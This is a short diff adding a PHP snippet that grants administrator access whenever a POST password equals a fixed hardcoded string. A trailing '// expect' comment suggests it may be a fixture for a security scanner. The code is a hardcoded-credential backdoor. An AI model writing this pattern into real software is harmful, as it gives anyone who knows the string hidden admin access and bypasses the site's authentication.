@@ -1,0 +1,4 @@
+<?php
+if ($_POST['password'] == 'qq5201314') { // expect
+  open_admin();
+}
